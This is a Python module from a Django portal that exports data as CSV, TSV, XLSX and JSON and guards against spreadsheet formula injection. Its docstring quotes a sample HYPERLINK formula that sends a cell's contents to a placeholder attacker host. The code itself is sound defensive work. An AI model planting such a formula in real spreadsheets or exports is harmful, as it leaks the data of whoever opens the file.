"""Open data as spreadsheets: cells that a spreadsheet program cannot run as formulas.

Spreadsheet programs treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with a
tab, CR or LF before one, or the full-width forms of these signs) as a formula, so a member's
address such as ``=HYPERLINK("http://evil.example/?x="&A1,"Klik")`` would run in the reader's
spreadsheet. Every CSV export goes through :func:`spreadsheet_cell`, which puts a ``'`` in
front of such text: spreadsheet programs show the text as it is, and a program reading the
file as data sees the added quote only on those rare cells. Numbers stay numbers (``-12.5`` is
not text and not a formula).

XLSX knows text from formulas by the cell's type, so :class:`XLSXExport` writes every string
as an explicit text cell, unchanged (openpyxl would otherwise store ``"=..."`` as a formula).

JSON exports are data for programs, not spreadsheets: they stay exactly as stored.

Every section's list exports through one writer, :class:`OpenData`: CSV streamed through
:func:`csv_lines`, JSON streamed as an array of objects with a published JSON schema per
section (the JSON's address with ``?format=schema``).

The admin's import-export uses :data:`ADMIN_EXPORT_FORMATS` (see
``network_portal.admin.ImportExportMixin``).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal

from django.http import HttpRequest, HttpResponse, JsonResponse, StreamingHttpResponse
from django.utils.translation import gettext_lazy as _
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.styles import Font

from network_portal.ratelimit import limited_per_visitor
from network_portal.text import clean_text

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def spreadsheet_cell(value):
    """``value`` safe to put in a CSV cell: text a spreadsheet would run gets a leading ``'``."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def spreadsheet_row(row):
    """A CSV row (list or dict) with every cell passed through :func:`spreadsheet_cell`."""
    if isinstance(row, dict):
        return {key: spreadsheet_cell(value) for key, value in row.items()}
    return [spreadsheet_cell(value) for value in row]


def xlsx_bytes(headers: list[str], rows: Iterable[Iterable]) -> bytes:
    """An XLSX workbook of one sheet; strings are text cells, never formulas."""
    return xlsx_workbook_bytes([("", headers, rows)])


def xlsx_workbook_bytes(sheets: Iterable[tuple[str, list[str], Iterable[Iterable]]]) -> bytes:
    """An XLSX workbook with one sheet per (title, headers, rows); strings are text cells."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for number, (title, headers, rows) in enumerate(sheets, start=1):
        sheet = workbook.create_sheet(clean_text(title)[:31] or f"Sheet{number}")
        sheet.append(headers)
        for cell in sheet[1]:
            cell.font = Font(bold=True)
        sheet.freeze_panes = "A2"
        for row_number, row in enumerate(rows, start=2):
            for column, value in enumerate(row, start=1):
                cell = sheet.cell(row=row_number, column=column)
                if isinstance(value, str):
                    # XLSX cannot hold control characters at all (openpyxl refuses them).
                    cell.value = clean_text(value)
                    cell.data_type = "s"
                elif isinstance(value, Decimal):
                    cell.value = float(value)
                else:
                    cell.value = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


class _SafeTextFormat:
    def export_data(self, dataset, **kwargs):
        safe = dataset.__class__(headers=dataset.headers, title=dataset.title)
        for row in dataset:
            safe.append(spreadsheet_row(row))
        return super().export_data(safe, **kwargs)


class CSVExport(_SafeTextFormat, base_formats.CSV):
    pass


class TSVExport(_SafeTextFormat, base_formats.TSV):
    pass


class XLSXExport(base_formats.XLSX):
    def export_data(self, dataset, **kwargs):
        return xlsx_bytes(list(dataset.headers or []), list(dataset))


ADMIN_EXPORT_FORMATS = [CSVExport, XLSXExport, TSVExport, base_formats.JSON]


# --- open data: every section's list as CSV and JSON, one writer ------------------------------
# The JSON schema of a column's value (https://json-schema.org, draft 2020-12).
TEXT = {"type": "string"}
OPTIONAL_TEXT = {"type": ["string", "null"]}
URL = {"type": "string", "format": "uri"}
INTEGER = {"type": "integer"}
OPTIONAL_INTEGER = {"type": ["integer", "null"]}
OPTIONAL_NUMBER = {"type": ["number", "null"]}
BOOLEAN = {"type": "boolean"}
TEXT_LIST = {"type": "array", "items": TEXT}
INTEGER_LIST = {"type": "array", "items": INTEGER}
SCHEMA_DIALECT = "https://json-schema.org/draft/2020-12/schema"


class _Echo:
    def write(self, value):
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence]) -> Iterator[str]:
    """The lines of a CSV file: a byte-order mark (so that spreadsheet programs read UTF-8),
    the header, then every row with its cells through :func:`spreadsheet_row`."""
    writer = csv.writer(_Echo())
    yield "\ufeff"
    yield writer.writerow(header)
    for row in rows:
        yield writer.writerow(spreadsheet_row(row))


def csv_response(rows: Iterable[dict], columns: list[str], filename: str) -> StreamingHttpResponse:
    """``rows`` (dicts) streamed as CSV with these columns; list values are joined with "; "."""
    cells = (
        [
            "; ".join(map(str, value)) if isinstance(value, list) else value
            for value in (row.get(column) for column in columns)
        ]
        for row in rows
    )
    response = StreamingHttpResponse(
        csv_lines(columns, cells), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# A list's CSV or JSON view, limited per visitor ("open-data" in ratelimit.VISITOR_LIMITS);
# the JSON schema is not counted.
limited_download = limited_per_visitor(
    "open-data",
    _(
        "You have downloaded the data many times in a short time. "
        "Please wait a minute and download it again."
    ),
    counted=lambda request: request.GET.get("format") != "schema",
)


@dataclass(frozen=True)
class OpenData:
    """A section's open data: the columns of its list's export, each with the JSON schema of
    its value, in order. The CSV and the JSON of a list hold the same rows (dicts with these
    keys); the JSON is an array of objects, described by :meth:`schema`, which the JSON's
    address serves with ``?format=schema``."""

    name: str
    title: str
    columns: Mapping[str, dict]

    def schema(self) -> dict:
        return {
            "$schema": SCHEMA_DIALECT,
            "title": self.title,
            "type": "array",
            "items": {
                "type": "object",
                "properties": dict(self.columns),
                "required": list(self.columns),
                "additionalProperties": False,
            },
        }

    def csv(self, rows: Iterable[dict]) -> StreamingHttpResponse:
        return csv_response(rows, list(self.columns), f"{self.name}.csv")

    def json(self, request: HttpRequest, rows: Iterable[dict]) -> HttpResponse:
        """``rows`` streamed as a JSON array, exactly as stored; ``?format=schema`` answers
        the schema instead (``rows`` is then never read)."""
        if request.GET.get("format") == "schema":
            response = JsonResponse(self.schema(), json_dumps_params={"ensure_ascii": False})
            response["Content-Disposition"] = f'inline; filename="{self.name}.schema.json"'
            return response

        def chunks():
            yield "["
            for number, row in enumerate(rows):
                yield ("," if number else "") + json.dumps(row, ensure_ascii=False)
            yield "]"

        response = StreamingHttpResponse(chunks(), content_type="application/json; charset=utf-8")
        response["Content-Disposition"] = f'inline; filename="{self.name}.json"'
        return response
